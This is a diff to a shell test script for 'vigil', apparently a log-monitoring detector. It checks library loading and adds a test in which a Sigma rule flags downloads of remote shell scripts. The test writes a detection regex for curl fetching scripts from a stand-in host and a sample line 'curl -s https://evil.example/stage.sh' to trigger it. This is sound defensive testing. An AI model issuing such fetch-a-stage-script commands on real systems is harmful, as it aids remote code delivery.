@@ -3,10 +3,11 @@
 # (sidecar/module.h): build/vigil links none of those libraries, a vigil that
 # tails files into a file maps none of them, and one that names a kafka
 # output loads vigil-kafka.so (50_kafka, 51_nats, 33_otlp and 44_journal show
-# the modules working). A module that cannot be loaded is a configuration
-# error with file:line:col and the loader's reason, at --validate and at start.
+# the modules working); libpcre2-8 is opened by the first Sigma regex. A module
+# that cannot be loaded is a configuration error with file:line:col and the
+# loader's reason, at --validate and at start.
 . "$(dirname "$0")/lib.sh"
-HEAVY='librdkafka|libnats|libprotobuf-c|libsystemd|libssl|libcrypto|libevent_openssl|vigil-[a-z]*\.so'
+HEAVY='librdkafka|libnats|libprotobuf-c|libsystemd|libssl|libcrypto|libevent_openssl|libpcre2|vigil-[a-z]*\.so'
 
 readelf -d "$VIGIL" | grep NEEDED >"$T/needed"
 grep -E "$HEAVY" "$T/needed" && fail "$B/vigil links a library that belongs to a module"
@@ -42,6 +43,44 @@ grep -E "$HEAVY" "/proc/$VPID/maps" && fail "a file-only vigil maps a module lib
 grep -q 'libfyaml' "/proc/$VPID/maps" || fail "maps of the wrong process read"
 stop_vigil
 say "file-only vigil maps no module library: ok"
+
+# A Sigma rule with |re: PCRE2 is opened then, and the rule matches.
+mkdir -p "$T/rules"
+cat >"$T/rules/re.yml" <<YEOF
+title: Download piped to a shell
+id: 5b0c7d1e-7c61-4a51-9a59-36a0d1c00001
+status: stable
+logsource: {product: linux, category: process_creation}
+detection:
+  selection:
+    CommandLine|re: '^curl .*evil\.example/[a-z]+\.sh'
+  condition: selection
+level: high
+YEOF
+: >"$T/hist"
+cat >"$T/sigma.yaml" <<YEOF
+service:
+  state_dir: $T/state-sigma
+inputs:
+  - name: hist
+    paths: ["$T/hist"]
+    parser: shell
+alerts:
+  format: json
+  min_severity: info
+detectors:
+  sigma:
+    rules: [$T/rules]
+YEOF
+: >"$T/vigil.err"
+: >"$T/vigil.out"
+start_vigil "$T/sigma.yaml"
+wait_until 10 grep -q 'started:' "$T/vigil.err" || { cat "$T/vigil.err"; fail "vigil with a Sigma regex did not start"; }
+grep -q 'libpcre2-8' "/proc/$VPID/maps" || fail "libpcre2-8 not opened for a Sigma regex"
+echo 'curl -s https://evil.example/stage.sh' >>"$T/hist"
+wait_until 10 grep -q 'Download piped to a shell' "$T/vigil.out" || { cat "$T/vigil.err"; fail "the Sigma regex rule did not match"; }
+stop_vigil
+say "a Sigma regex opens libpcre2-8 and matches: ok"
 
 # A kafka output: the module and librdkafka are mapped (brokers need not be up).
 cat >"$T/kafka.yaml" <<YEOF
